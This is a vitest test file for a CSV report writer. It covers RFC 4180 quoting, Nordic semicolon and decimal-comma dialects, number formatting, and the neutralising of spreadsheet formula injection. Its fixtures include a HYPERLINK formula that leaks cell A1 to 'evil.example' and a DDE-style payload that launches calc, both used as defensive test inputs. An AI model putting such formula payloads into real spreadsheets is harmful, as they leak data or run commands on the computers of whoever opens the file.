import { describe, it, expect, afterAll } from 'vitest';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { sanitizeCell } from '../../src/report/sanitize-cell.js';
import { dialectFor, formatNumber, type SheetDialect } from '../../src/report/locale.js';
import { CsvTableWriter, headerLine, type Column } from '../../src/report/csv-writer.js';

const EN: SheetDialect = { delimiter: ',', decimalComma: false };
const NB: SheetDialect = { delimiter: ';', decimalComma: true };

/**
 * A strict RFC 4180 reader: rows end at CRLF only, a quote opens a field only at its start, and after a closing
 * quote comes a delimiter or a row end. Anything else throws, so a sloppy writer cannot pass.
 */
function readCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let atFieldStart = true;
  let i = 0;
  const endField = () => {
    row.push(field);
    field = '';
    atFieldStart = true;
  };
  while (i < text.length) {
    const c = text[i]!;
    if (atFieldStart && c === '"') {
      atFieldStart = false;
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unclosed quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      const next = text[i];
      if (next !== undefined && next !== delimiter && !(next === '\r' && text[i + 1] === '\n')) throw new Error(`text after closing quote at ${i}`);
      continue;
    }
    atFieldStart = false;
    if (c === delimiter) {
      endField();
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i += 2;
    } else if (c === '"' || c === '\r' || c === '\n') {
      throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (!atFieldStart || row.length) throw new Error('the last row does not end with CRLF');
  return rows;
}

describe('readCsv (the test helper itself)', () => {
  it('reads quoted fields and refuses malformed ones', () => {
    expect(readCsv('a,"b,""c""\r\nd",e\r\n', ',')).toEqual([['a', 'b,"c"\r\nd', 'e']]);
    expect(() => readCsv('a,b\n', ',')).toThrow();
    expect(() => readCsv('a,"b"c\r\n', ',')).toThrow();
    expect(() => readCsv('a,b"c\r\n', ',')).toThrow();
    expect(() => readCsv('a,b', ',')).toThrow();
  });
});

describe('sanitizeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'],
    ['=1+1'],
    ['+47 912 34 567'],
    ['-- worst shop ever --'],
    ['-1 star if I could'],
    ['@channel refund please'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=cmd'],
    ['\r=cmd'],
  ])('prefixes %j with an apostrophe', (text) => {
    expect(sanitizeCell(text)).toBe(`'${text}`);
  });

  it.each([
    ['Great value, would buy again'],
    ['Kjempefornøyd med leveransen 😀'],
    ['1+1=2, as expected'],
    ['Price = fair'],
    ['a@b.no wrote: -5%'],
    [' =not at the start'],
    [''],
    ["'already quoted"],
  ])('leaves %j untouched', (text) => {
    expect(sanitizeCell(text)).toBe(text);
  });
});

describe('dialectFor', () => {
  it.each(['nb-NO', 'nn-NO', 'da-DK', 'sv-SE', 'nb', 'nn', 'no', 'da', 'sv'])('uses semicolons and decimal commas for %s', (locale) => {
    expect(dialectFor(locale)).toEqual(NB);
  });

  it.each(['en', 'en-US', 'en-GB'])('uses commas and decimal points for %s', (locale) => {
    expect(dialectFor(locale)).toEqual(EN);
  });
});

describe('formatNumber', () => {
  it('fixes the decimals and uses a decimal comma for nb-NO, da-DK and sv-SE', () => {
    expect(formatNumber(4.25, 2, EN)).toBe('4.25');
    expect(formatNumber(4.25, 2, dialectFor('nb-NO'))).toBe('4,25');
    expect(formatNumber(4.25, 2, dialectFor('da-DK'))).toBe('4,25');
    expect(formatNumber(4.25, 2, dialectFor('sv-SE'))).toBe('4,25');
    expect(formatNumber(30, 1, NB)).toBe('30,0');
    expect(formatNumber(1234567.5, 1, NB)).toBe('1234567,5'); // no thousands separator: it would split the number
    expect(formatNumber(2 / 3, 3, EN)).toBe('0.667');
    expect(formatNumber(-12.5, 1, NB)).toBe('-12,5');
    expect(formatNumber(7, 0, NB)).toBe('7');
  });

  it('never writes -0.00', () => {
    expect(formatNumber(-0.001, 2, EN)).toBe('0.00');
    expect(formatNumber(-0.004, 2, NB)).toBe('0,00');
    expect(formatNumber(-0, 1, EN)).toBe('0.0');
    expect(formatNumber(-0.4, 0, EN)).toBe('0');
    expect(formatNumber(-0.006, 2, EN)).toBe('-0.01');
  });

  it('writes an empty cell for undefined, NaN and infinities', () => {
    expect(formatNumber(undefined, 2, EN)).toBe('');
    expect(formatNumber(Number.NaN, 2, NB)).toBe('');
    expect(formatNumber(Number.POSITIVE_INFINITY, 2, EN)).toBe('');
    expect(formatNumber(Number.NEGATIVE_INFINITY, 2, EN)).toBe('');
  });
});

type Row = { id: string; product: string; rating?: number; change?: number; nps?: number; comment?: string };

const COLUMNS: readonly Column<Row>[] = [
  { name: 'id', kind: 'text', get: (r) => r.id },
  { name: 'product', kind: 'text', get: (r) => r.product },
  { name: 'mean_rating', kind: 'num', decimals: 2, get: (r) => r.rating },
  { name: 'change', kind: 'num', decimals: 1, get: (r) => r.change },
  { name: 'nps', kind: 'int', get: (r) => r.nps },
  { name: 'comment', kind: 'text', get: (r) => r.comment },
];

const ROWS: Row[] = [
  { id: 'R1', product: 'Kaffetrakter', rating: 4.5, change: -1.25, nps: -20, comment: 'Rask levering; god pakking' },
  { id: 'R2', product: 'Vannkoker', rating: 1, change: 0.5, nps: 40, comment: 'She said "wow", really' },
  { id: 'R3', product: 'Brødrister', rating: 3.125, change: -0.04, nps: 0, comment: 'First paragraph.\r\nSecond, with a comma.\nThird after LF.' },
  { id: 'R4', product: '=HYPERLINK("http://evil.example","Refund here")', comment: '+47 912 34 567 ring meg' },
  { id: '-R5', product: '@channel', comment: '\tindented' },
  { id: 'R6', product: 'Dårlig, kom i stykker', comment: undefined, rating: undefined, change: undefined, nps: undefined },
];

describe('CsvTableWriter', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tilfreds-report-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  async function writeTable<T>(name: string, columns: readonly Column<T>[], rows: readonly T[], dialect: SheetDialect, header = true, bom = true): Promise<Buffer> {
    const file = path.join(dir, name);
    const writer = new CsvTableWriter(file, columns, { dialect, header, bom });
    for (const row of rows) await writer.write(row);
    await writer.close();
    return fs.readFileSync(file);
  }

  const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

  it('gives a column declared `repeats` the same cells, memoised, as one that is not', async () => {
    const repeating = COLUMNS.map((c) => (c.kind === 'text' ? { ...c, repeats: true } : c));
    const rows = Array.from({ length: 3 }, () => ROWS).flat();
    const plain = await writeTable('plain.csv', COLUMNS, rows, NB);
    const memoised = await writeTable('memoised.csv', repeating, rows, NB);
    expect(memoised.equals(plain)).toBe(true);
    expect(plain.toString('utf8')).toContain("'=HYPERLINK"); // the memo keeps the neutralised cell
  });

  it('writes many chunks in order, without waiting on every row, and a row longer than its buffers', async () => {
    // 64 K-character chunks go through two reused buffers: thousands of rows cross many chunk boundaries, with
    // multi-byte text (bytes ≠ characters) and one cell of 600 K characters (more than a buffer holds).
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ id: `R${i}`, product: i % 3 ? 'Blåbærsyltetøy' : 'Kaffe', rating: i % 5, comment: i === 7_777 ? '€'.repeat(600_000) : `kommentar ${i} – ærlig talt 👍` }));
    const file = path.join(dir, 'many.csv');
    const writer = new CsvTableWriter(file, COLUMNS, { dialect: EN, header: true, bom: false });
    let waits = 0;
    for (const row of rows) {
      const wait = writer.write(row);
      if (wait) {
        waits++;
        await wait;
      }
    }
    await writer.close();
    expect(waits).toBeGreaterThan(10);
    expect(waits).toBeLessThan(rows.length / 10);
    const expected = headerLine(COLUMNS, EN) + rows.map((r) => writer.line(r)).join('');
    expect(fs.readFileSync(file, 'utf8')).toBe(expected);
  });

  it('writes a UTF-8 BOM, the header and CRLF-terminated rows', async () => {
    const bytes = await writeTable('en.csv', COLUMNS, ROWS.slice(0, 2), EN);
    expect(bytes.subarray(0, 3)).toEqual(BOM);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith('id,product,mean_rating,change,nps,comment\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toBe(
      'id,product,mean_rating,change,nps,comment\r\n' +
        'R1,Kaffetrakter,4.50,-1.3,-20,Rask levering; god pakking\r\n' +
        'R2,Vannkoker,1.00,0.5,40,"She said ""wow"", really"\r\n',
    );
  });

  it.each([
    ['comma', EN],
    ['semicolon', NB],
  ] as const)('round-trips text cells through a strict reader in the %s dialect', async (_name, dialect) => {
    const bytes = await writeTable(`roundtrip-${dialect.delimiter === ',' ? 'en' : 'nb'}.csv`, COLUMNS, ROWS, dialect);
    const rows = readCsv(bytes.subarray(3).toString('utf8'), dialect.delimiter);
    const num = (s: string) => (dialect.decimalComma ? s.replace('.', ',') : s);
    expect(rows).toEqual([
      ['id', 'product', 'mean_rating', 'change', 'nps', 'comment'],
      ['R1', 'Kaffetrakter', num('4.50'), num('-1.3'), '-20', 'Rask levering; god pakking'],
      ['R2', 'Vannkoker', num('1.00'), num('0.5'), '40', 'She said "wow", really'],
      ['R3', 'Brødrister', num('3.13'), num('0.0'), '0', 'First paragraph.\r\nSecond, with a comma.\nThird after LF.'],
      ['R4', `'=HYPERLINK("http://evil.example","Refund here")`, '', '', '', "'+47 912 34 567 ring meg"],
      ["'-R5", "'@channel", '', '', '', "'\tindented"],
      ['R6', 'Dårlig, kom i stykker', '', '', '', ''],
    ]);
  });

  it('in the semicolon dialect, quotes cells with ; but not those with commas, and writes decimal commas bare', async () => {
    const text = (await writeTable('nb-raw.csv', COLUMNS, [ROWS[0]!, ROWS[5]!], NB)).subarray(3).toString('utf8');
    expect(text).toBe(
      'id;product;mean_rating;change;nps;comment\r\n' +
        'R1;Kaffetrakter;4,50;-1,3;-20;"Rask levering; god pakking"\r\n' +
        'R6;Dårlig, kom i stykker;;;;\r\n',
    );
  });

  it('neutralises a formula cell and quotes it as a whole', async () => {
    const text = (await writeTable('formula.csv', COLUMNS, [ROWS[3]!], EN)).subarray(3).toString('utf8');
    expect(text.split('\r\n')[1]).toBe(`R4,"'=HYPERLINK(""http://evil.example"",""Refund here"")",,,,'+47 912 34 567 ring meg`);
  });

  it('never prefixes numbers, even negative ones', async () => {
    const rows: Row[] = [{ id: 'R1', product: 'P', rating: -2.5, change: -0.75, nps: -100 }];
    const en = readCsv((await writeTable('neg-en.csv', COLUMNS, rows, EN)).subarray(3).toString('utf8'), ',');
    const nb = readCsv((await writeTable('neg-nb.csv', COLUMNS, rows, NB)).subarray(3).toString('utf8'), ';');
    expect(en[1]!.slice(2, 5)).toEqual(['-2.50', '-0.8', '-100']);
    expect(nb[1]!.slice(2, 5)).toEqual(['-2,50', '-0,8', '-100']);
  });

  // Regression: fast-csv writes its BOM with the first row, so a table with a header and no rows had none.
  it('writes the BOM and the header for an empty table', async () => {
    const empty = await writeTable('empty.csv', COLUMNS, [], EN);
    expect(empty.toString('utf8')).toBe('\uFEFFid,product,mean_rating,change,nps,comment\r\n');
  });

  it('writes the header for an empty table, ended by CRLF', async () => {
    const empty = (await writeTable('empty-no-bom.csv', COLUMNS, [], EN, true, false)).toString('utf8');
    expect(empty).toBe('id,product,mean_rating,change,nps,comment\r\n');
  });

  it('writes nothing but rows without header and BOM, and nothing at all for no rows', async () => {
    const bare = await writeTable('bare.csv', COLUMNS, [ROWS[1]!], EN, false, false);
    expect(bare.toString('utf8')).toBe('R2,Vannkoker,1.00,0.5,40,"She said ""wow"", really"\r\n');
    expect((await writeTable('nothing.csv', COLUMNS, [], NB, false, false)).length).toBe(0);
  });

  it('writes the header as headerLine() does (files assembled from parts start with headerLine)', async () => {
    for (const dialect of [EN, NB]) {
      const text = (await writeTable(`header-${dialect.delimiter === ',' ? 'en' : 'nb'}.csv`, COLUMNS, [ROWS[0]!], dialect)).subarray(3).toString('utf8');
      expect(text.startsWith(headerLine(COLUMNS, dialect))).toBe(true);
    }
  });

  it('headerLine quotes names with delimiters so a reader gets the names back', () => {
    const columns: Column<Row>[] = [
      { name: 'id', kind: 'text', get: (r) => r.id },
      { name: 'score; 1–5', kind: 'num', decimals: 1, get: (r) => r.rating },
      { name: 'note, "free" text', kind: 'text', get: (r) => r.comment },
    ];
    for (const dialect of [EN, NB]) {
      expect(readCsv(headerLine(columns, dialect), dialect.delimiter)).toEqual([['id', 'score; 1–5', 'note, "free" text']]);
    }
  });

  it('line() gives the typed, neutralised, quoted cells of a row', () => {
    const writer = new CsvTableWriter(path.join(dir, 'cells.csv'), COLUMNS, { dialect: NB, header: true, bom: true });
    expect(writer.line(ROWS[0]!)).toBe('R1;Kaffetrakter;4,50;-1,3;-20;"Rask levering; god pakking"\r\n');
    expect(readCsv(writer.line(ROWS[4]!), ';')).toEqual([["'-R5", "'@channel", '', '', '', "'\tindented"]]);
    return writer.close();
  });

  it('keeps every row of a large table, waiting when the file falls behind', async () => {
    const rows: Row[] = Array.from({ length: 20_000 }, (_, k) => ({
      id: `R${k}`,
      product: `Produkt ${k % 7}`,
      rating: (k % 5) + 1,
      change: (k % 11) - 5,
      nps: (k % 21) * 10 - 100,
      comment: k % 3 === 0 ? `Linje én, "${k}"\r\nlinje to` : `=${k}`,
    }));
    const parsed = readCsv((await writeTable('large.csv', COLUMNS, rows, EN)).subarray(3).toString('utf8'), ',');
    expect(parsed).toHaveLength(rows.length + 1);
    expect(parsed[1]).toEqual(['R0', 'Produkt 0', '1.00', '-5.0', '-100', 'Linje én, "0"\r\nlinje to']);
    // 19999 = 7 × 2857; 19999 mod 5 = 4; mod 11 = 1; mod 21 = 7; mod 3 = 1
    expect(parsed[20_000]).toEqual(['R19999', 'Produkt 0', '5.00', '-4.0', '-30', "'=19999"]);
  });
});
